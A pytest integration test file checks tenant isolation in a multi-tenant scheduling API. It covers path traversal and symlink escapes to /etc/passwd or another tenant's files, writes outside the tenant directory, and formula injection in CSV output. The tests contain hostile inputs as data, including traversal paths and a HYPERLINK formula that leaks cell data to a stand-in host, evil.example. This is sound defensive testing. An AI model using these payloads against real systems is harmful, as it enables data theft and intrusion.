"""Tenant files through the real stack, tried as a hostile tenant would: every file source and sink is
confined to `<[files] root>/<tenant id>/` (the session stack's root), uploaded files are read only by
their own tenant, and no answer ever carries the content of a file the tenant could not read itself.

What an attacker checks: the content of /etc/passwd (and of another tenant's file) never appears in any
response; files outside the tenant's directory are never written (their bytes and mtimes unchanged,
nothing new next to them); formula cells in a CSV sink are neutralised.
"""

from __future__ import annotations

import csv
import os
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.integration.test_schedules import (
    JOB,
    classifications,
    file_schedule,
    run_now,
    tenant_with_home,
    wait_run,
    write_tickets,
)
from tests.support.procs import free_port
from tests.support.stack import Stack, write_app_config

pytestmark = pytest.mark.integration

PASSWD = Path("/etc/passwd")
URGENT = {**JOB, "urgent": True}


def passwd_words() -> list[str]:
    """Pieces of /etc/passwd that must never come back: its user names and its first line."""
    lines = PASSWD.read_text().splitlines()
    return [lines[0], *{line.split(":")[0] + ":x:" for line in lines if line}]


class Seen:
    """Every response body a test received, to look for leaked content at the end."""

    def __init__(self) -> None:
        self.bodies: list[str] = []

    def hook(self, response: httpx.Response) -> None:
        response.read()
        self.bodies.append(response.text)

    def assert_never_contains(self, words: list[str]) -> None:
        joined = "\n".join(self.bodies)
        assert joined, "no response recorded"
        leaked = [word for word in words if word in joined]
        assert not leaked, f"file content in a response: {leaked}"


@pytest.fixture
def seen() -> Iterator[Seen]:
    yield Seen()


def watched(stack: Stack, key: str, seen: Seen) -> httpx.Client:
    client = stack.client(key)
    client.event_hooks["response"].append(seen.hook)
    return client


def post_schedule(client: httpx.Client, source: dict[str, Any], sink: dict[str, Any] | None = None
                  ) -> httpx.Response:
    body: dict[str, Any] = {"name": f"s-{uuid.uuid4().hex[:6]}", "cron": "0 2 * * *", "enabled": False,
                            "job": URGENT, "source": source}
    if sink is not None:
        body["sink"] = sink
    return client.post("/v1/schedules", json=body)


def upload(client: httpx.Client, name: str, content: bytes, purpose: str = "user_data") -> httpx.Response:
    return client.post("/v1/files", data={"purpose": purpose}, files={"file": (name, content, "text/csv")})


def snapshot(directory: Path) -> dict[str, tuple[bytes, int]]:
    """Every file under `directory` with its bytes and mtime (ns), links not followed."""
    out = {}
    for base, _dirs, names in os.walk(directory):
        for name in names:
            path = Path(base) / name
            if path.is_symlink():
                continue
            out[str(path)] = (path.read_bytes(), path.stat().st_mtime_ns)
    return out


def test_paths_outside_the_tenant_directory_are_refused_and_nothing_leaks(stack: Stack, seen: Seen) -> None:
    _, home_a = tenant_with_home(stack, "a")
    key_b, home_b = tenant_with_home(stack, "b")
    (home_a / "private.csv").write_text("id,body\nA-secret-1,the merger closes on friday\n")
    (home_b / "passwd.csv").symlink_to(PASSWD)
    (home_b / "etc").symlink_to("/etc")
    (home_b / "neighbour").symlink_to(home_a)
    with watched(stack, key_b, seen) as client:
        for path in ("/etc/passwd", "../../etc/passwd", "../../../../../../etc/passwd", "passwd.csv",
                     "etc/passwd", "etc/*", f"../{home_a.name}/private.csv", "neighbour/private.csv",
                     "neighbour/*.csv", str(home_a / "private.csv"), "~/x.csv", "ok/../../x.csv"):
            response = post_schedule(client, {"type": "file", "path": path, "format": "csv", "text_field": "body"})
            assert response.status_code == 422, (path, response.text)
            assert response.json()["error"]["param"] == "source.path", (path, response.text)
        assert client.get("/v1/schedules").json()["data"] == []

        # a glob never sees the links: nothing matches, the run fails without reading anything
        schedule = file_schedule(client, "*.csv", source={"type": "file", "path": "*.csv", "format": "csv"})
        run = wait_run(stack, client, schedule["id"], run_now(client, schedule["id"])["id"])
        assert run["status"] == "failed" and "no file matches" in run["error"], run
        assert classifications(client, schedule["id"], run["id"]) == []
    seen.assert_never_contains([*passwd_words(), "A-secret-1", "merger", str(stack.tmp)])


def test_a_file_replaced_by_a_link_after_creation_is_refused_at_fire_time(sim_reset: Stack, seen: Seen) -> None:
    stack = sim_reset
    key, home = tenant_with_home(stack)
    write_tickets(home / "tickets.csv", 3)
    (home / "data").mkdir()
    write_tickets(home / "data" / "more.csv", 2)
    with watched(stack, key, seen) as client:
        direct = file_schedule(client, "tickets.csv", job=URGENT)
        nested = file_schedule(client, "data/more.csv", job=URGENT)
        (home / "tickets.csv").unlink()
        (home / "tickets.csv").symlink_to(PASSWD)
        (home / "data").rename(home / "data-old")
        (home / "data").symlink_to("/etc")
        for schedule in (direct, nested):
            run = wait_run(stack, client, schedule["id"], run_now(client, schedule["id"])["id"])
            assert run["status"] == "failed" and "symbolic link" in run["error"], run
            assert run["task_count"] == 0 and run["job_id"] is None
            assert classifications(client, schedule["id"], run["id"]) == []
    seen.assert_never_contains(passwd_words())


def test_a_sink_never_writes_outside_the_tenant_directory(sim_reset: Stack, seen: Seen, tmp_path: Path) -> None:
    stack = sim_reset
    key, home = tenant_with_home(stack)
    other_id, _ = stack.new_tenant("victim")
    victim = stack.tenant_dir(other_id)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "target.csv").write_text("do not touch\n")
    (victim / "results.csv").write_text("the victim's own results\n")
    write_tickets(home / "t.csv", 2)
    (home / "linked").symlink_to(outside)
    (home / "to-target.csv").symlink_to(outside / "target.csv")
    before = {**snapshot(outside), **snapshot(victim)}
    with watched(stack, key, seen) as client:
        source = {"type": "file", "path": "t.csv", "id_field": "id", "text_field": "body"}
        for path in (str(outside / "target.csv"), "/etc/cron.d/x.csv", f"../{other_id}/results.csv",
                     "../../outside/target.csv", "linked/target.csv", "linked/{run_id}.csv", "to-target.csv"):
            response = post_schedule(client, source, {"type": "file", "path": path})
            assert response.status_code == 422, (path, response.text)
            assert response.json()["error"]["param"] == "sink.path", (path, response.text)

        # made safe at creation, turned into links before the run: the run fails, nothing written through
        into_link = file_schedule(client, "t.csv", job=URGENT, sink={"type": "file", "path": "out/results.csv"})
        into_dir = file_schedule(client, "t.csv", job=URGENT, sink={"type": "file", "path": "dir/{run_id}.csv"})
        (home / "out").mkdir()
        (home / "out" / "results.csv").symlink_to(outside / "target.csv")
        (home / "dir").symlink_to(outside)
        for schedule in (into_link, into_dir):
            run = wait_run(stack, client, schedule["id"], run_now(client, schedule["id"])["id"])
            assert run["status"] == "failed" and "symbolic link" in run["error"], run
            assert run["sink_path"] is None
        assert (home / "out" / "results.csv").is_symlink()
    assert {**snapshot(outside), **snapshot(victim)} == before
    assert sorted(p.name for p in outside.iterdir()) == ["target.csv"]
    seen.assert_never_contains([str(stack.tmp)])


def test_a_sink_writes_inside_and_its_csv_cells_cannot_run_as_formulas(sim_reset: Stack) -> None:
    stack = sim_reset
    key, home = tenant_with_home(stack)
    hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "plain"]
    with (home / "items.csv").open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "body"])
        for item in hostile:
            writer.writerow([item, f"Ticket {item}: I was charged twice"])
    with stack.client(key) as client:
        schedule = file_schedule(client, "items.csv", job=URGENT,
                                 sink={"type": "file", "path": "reports/{date}/{run_id}.csv"})
        run = wait_run(stack, client, schedule["id"], run_now(client, schedule["id"])["id"])
        assert run["status"] == "succeeded", run
        assert run["sink_path"].startswith("reports/") and not run["sink_path"].startswith("/")
        with open(home / run["sink_path"], newline="") as handle:
            rows = list(csv.DictReader(handle))
        assert sorted(r["item_id"] for r in rows) == sorted(
            "'" + item if item[0] in "=+-@" else item for item in hostile)
        assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values() if cell)
        # the directory holds the result and no temporary file
        assert [p.name for p in (home / run["sink_path"]).parent.iterdir()] == [f"{run['id']}.csv"]


def test_uploaded_data_files_are_read_by_their_tenant_only(sim_reset: Stack) -> None:
    stack = sim_reset
    key_a, _ = tenant_with_home(stack, "a")
    key_b, _ = tenant_with_home(stack, "b")
    seen_by_b = Seen()
    content = "id,body\n" + "".join(f"U-{i},Secret ticket {i}: the invoice is wrong\n" for i in range(12))
    with stack.client(key_a) as owner, watched(stack, key_b, seen_by_b) as other:
        uploaded = upload(owner, "tickets.csv", content.encode())
        assert uploaded.status_code == 200, uploaded.text
        file_id = uploaded.json()["id"]
        assert uploaded.json()["purpose"] == "user_data" and uploaded.json()["bytes"] == len(content)

        source = {"type": "file", "file_id": file_id, "format": "csv", "id_field": "id", "text_field": "body"}
        schedule = file_schedule(owner, "unused", source=source, job=URGENT)
        run = wait_run(stack, owner, schedule["id"], run_now(owner, schedule["id"])["id"])
        assert run["status"] == "succeeded" and run["task_count"] == 12, run
        assert sorted(c["item_id"] for c in classifications(owner, schedule["id"], run["id"])) == sorted(
            f"U-{i}" for i in range(12))

        # another tenant's file id is answered like one that does not exist
        answers = []
        for wanted in (file_id, "file-" + "0" * 24):
            refused = post_schedule(other, {**source, "file_id": wanted})
            assert refused.status_code == 422, refused.text
            assert refused.json()["error"]["param"] == "source.file_id"
            answers.append(refused.json()["error"]["message"].replace(wanted, "ID"))
        assert answers[0] == answers[1]
        assert other.get(f"/v1/files/{file_id}").status_code == 404
        assert other.get(f"/v1/files/{file_id}/content").status_code == 404
        other.get("/v1/files")
        other.get("/v1/schedules")

        # a data file is not a batch input file
        batch = owner.post("/v1/batches", json={"input_file_id": file_id, "endpoint": "/v1/chat/completions",
                                                "completion_window": "24h"})
        assert batch.status_code == 400 and batch.json()["error"]["code"] == "invalid_file_purpose", batch.text
        assert upload(owner, "notes.txt", b"id,body\n1,x\n").status_code == 400
        assert upload(owner, "empty.csv", b"").status_code == 400

        # deleted: the next run fails, and says why
        assert owner.delete(f"/v1/files/{file_id}").status_code == 200
        gone = wait_run(stack, owner, schedule["id"], run_now(owner, schedule["id"])["id"])
        assert gone["status"] == "failed" and "no uploaded file" in gone["error"], gone
    seen_by_b.assert_never_contains(["Secret ticket", "U-1", "tickets.csv"])


def test_without_a_files_root_paths_are_refused_saying_how_to_enable_them(stack: Stack) -> None:
    """A second API process on the same database, its config without `[files] root`."""
    config = write_app_config(stack.tmp / "no-files.toml", stack.simulator_port, "[files]\n")
    bare = Stack(tmp=stack.tmp, database_url=stack.database_url, redis_url=stack.redis_url, config_path=config,
                 simulator_port=stack.simulator_port, api_port=free_port(), redis_prefix=stack.redis_prefix)
    key, home = tenant_with_home(stack)
    write_tickets(home / "t.csv", 2)
    try:
        bare.start_api()
        with bare.client(key) as client:
            source = {"type": "file", "path": "t.csv", "text_field": "body"}
            refused = post_schedule(client, source)
            assert refused.status_code == 422 and refused.json()["error"]["param"] == "source.path"
            assert "[files] root" in refused.json()["error"]["message"]
            uploaded = upload(client, "t.csv", (home / "t.csv").read_bytes())
            assert uploaded.status_code == 200, uploaded.text
            by_id = {"type": "file", "file_id": uploaded.json()["id"], "text_field": "body"}
            sink = post_schedule(client, by_id, {"type": "file", "path": "out.csv"})
            assert sink.status_code == 422 and sink.json()["error"]["param"] == "sink.path"
            assert "[files] root" in sink.json()["error"]["message"]
            assert post_schedule(client, by_id).status_code == 201  # uploaded data needs no directory
    finally:
        bare.stop_all()
